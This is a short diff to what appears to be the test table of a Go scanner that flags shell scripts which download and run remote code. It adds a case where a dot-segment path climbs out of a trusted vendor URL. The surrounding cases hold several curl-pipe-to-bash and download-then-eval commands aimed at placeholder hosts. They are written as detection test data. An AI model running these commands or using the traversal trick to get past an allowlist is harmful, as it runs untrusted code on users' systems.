@@ -211,6 +211,8 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
 		// Codecov's own (legacy) uploader from Codecov's host: a vendor installer.
 		{"x.sh", "curl -s https://codecov.io/bash | bash", 0, true},
+		// A dot segment climbs out of the vendor's path before the request is sent.
+		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/../../../x-dev/tools/main/install.sh | bash", 0, false},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
